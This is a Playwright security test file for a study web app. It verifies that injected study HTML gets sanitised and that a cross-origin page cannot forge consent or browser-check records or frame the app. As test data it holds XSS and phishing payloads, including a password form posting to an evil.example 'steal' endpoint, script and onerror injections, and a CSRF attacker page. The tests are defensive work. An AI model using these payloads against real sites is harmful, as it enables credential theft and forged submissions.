/**
 * Hardening in Chromium (docs/security.md): the strict HTML profile of study texts (no hidden buttons, no
 * overlay, no form, no remote request, no script), and a page of another origin that cannot store anything
 * through a participant's browser nor frame the test.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from './fixtures';

const JOB = 'hardening-html';

/** What an adversarial study text tries (the importer refuses its remote images; the page must stand even so). */
const TAKEOVER =
  '<style>button { display: none !important; }</style>' +
  '<div style="position: fixed; inset: 0; z-index: 9999; background: white">an overlay over the page</div>' +
  '<p class="dialog-backdrop">a class that covers the page</p>' +
  '<form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button type="submit">Log in</button></form>' +
  '<img src="https://evil.example/track.png" alt="tracker"><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="data">' +
  '<iframe src="https://evil.example/frame"></iframe>' +
  '<script>window.__pwned = 1</script><img src="x" onerror="window.__pwned = 2">' +
  '<a id="js-link" href="javascript:window.__pwned = 3">click</a>';

test('study HTML keeps its formatting and its own image, and loses styles, overlays, forms, frames, scripts and remote resources', async ({ browser, glimpse, participant }) => {
  // A job stored with such a text (an older import, an edited database): the page's sanitiser is the last line.
  const row = await glimpse.db.selectFrom('jobs').select('fields').where('id', '=', JOB).executeTakeFirstOrThrow();
  const fields = JSON.parse(row.fields) as { welcomeMsg: string };
  if (!fields.welcomeMsg.includes('evil.example')) fields.welcomeMsg += TAKEOVER;
  await glimpse.db.updateTable('jobs').set({ fields: JSON.stringify(fields) }).where('id', '=', JOB).execute();
  // A page of its own: parsing this text makes Chromium report the blocked inline style and handler (the CSP at
  // work), which the fixture's page would count as defects.
  const page = await browser.newPage({ baseURL: glimpse.url });
  const requests: string[] = [];
  page.on('request', (r) => requests.push(r.url()));
  await page.goto(participant.linkTo(JOB));
  await page.getByRole('button', { name: 'Continue' }).click();
  const welcome = page.locator('.study-html');
  await expect(welcome.locator('p').first()).toHaveText('Kept bold, italic, a link and an image of the study:');
  await expect(welcome.locator('strong')).toHaveText('bold');
  const link = welcome.getByRole('link', { name: 'a link' });
  await expect(link).toHaveAttribute('href', 'https://example.org/info');
  await expect(link).toHaveAttribute('target', '_blank');
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  const image = welcome.locator('img[alt="study image"]');
  await expect(image).toHaveAttribute('src', `/resmedias/${JOB}/images/landscape_320x180_ref.jpg`);
  await expect.poll(() => image.evaluate((el: HTMLImageElement) => el.complete && el.naturalWidth)).toBe(320);

  // Nothing of the page takeover survived.
  for (const selector of ['style', 'form', 'input[type=password]', 'iframe', 'script', '[style]', '[class]', '[onerror]', 'img[alt="tracker"]', 'img[alt="data"]', 'img[src="x"]']) {
    await expect(welcome.locator(selector), selector).toHaveCount(0);
  }
  const jsLink = welcome.getByText('click', { exact: true });
  await expect(jsLink).not.toHaveAttribute('href', /.*/);
  await jsLink.click();
  expect(await page.evaluate(() => (window as { __pwned?: number }).__pwned)).toBeUndefined();
  // The page's own buttons are visible and nothing lies over them (a click checks both).
  await page.getByLabel('I have read and I accept the').check();
  await page.getByRole('button', { name: 'Next' }).click();
  await expect(page.getByRole('button', { name: 'Go to the test' })).toBeVisible();
  expect(requests.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
  expect(requests.filter((url) => url.includes('/resmedias/') && !url.endsWith('/images/landscape_320x180_ref.jpg'))).toEqual([]);
  await page.close();
});

test('a page of another origin cannot store a browser check or a consent form through the participant, nor frame the test', async ({ browser, glimpse }) => {
  const evilBody = JSON.stringify({ b_name: 'EVIL', b_version: '1', b_os: 'Linux', screen_size: '1x1' });
  const consent = JSON.stringify({ emailAddress: 'evil@evil.example', paraphe: 'EV', gender: 'M.', name: 'Evil', familyName: 'Page', birthCountry: 'Nowhere', birthDay: '1990-01-01', currentDate: { day: 1, month: 2, year: 2026 } });
  const html = `<!doctype html><html><body>
    <iframe id="framed" src="${glimpse.url}/pvid/e2e-pvid"></iframe>
    <form id="f" method="post" action="${glimpse.url}/api/consent/" enctype="text/plain"><input name='${consent.slice(0, -1)}' value='}'></form>
    <script>
      window.attempts = Promise.allSettled([
        fetch('${glimpse.url}/api/bchecks/', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: ${JSON.stringify(evilBody)} }),
        Promise.resolve(navigator.sendBeacon('${glimpse.url}/api/consent/', new Blob([${JSON.stringify(consent)}], { type: 'text/plain' }))),
      ]);
    </script></body></html>`;
  const evil: Server = createServer((_req, res) => res.writeHead(200, { 'content-type': 'text/html' }).end(html));
  await new Promise<void>((done) => evil.listen(0, '127.0.0.1', done));
  const context = await browser.newContext();
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${(evil.address() as AddressInfo).port}/`);
    await page.evaluate(() => (window as unknown as { attempts: Promise<unknown> }).attempts);
    // The test cannot be framed: the frame stays empty of the app.
    await expect.poll(async () => (await page.frameLocator('#framed').locator('#root').count().catch(() => 0)), { timeout: 5000 }).toBe(0);
    await page.evaluate(() => (document.getElementById('f') as HTMLFormElement).submit());
    await page.waitForLoadState('load');
    await new Promise((r) => setTimeout(r, 1000));
  } finally {
    await context.close();
    evil.close();
  }
  expect(await glimpse.db.selectFrom('bchecks').select('id').where('b_name', '=', 'EVIL').execute()).toEqual([]);
  expect(await glimpse.db.selectFrom('consents').select('id').where('email', '=', 'evil@evil.example').execute()).toEqual([]);
});
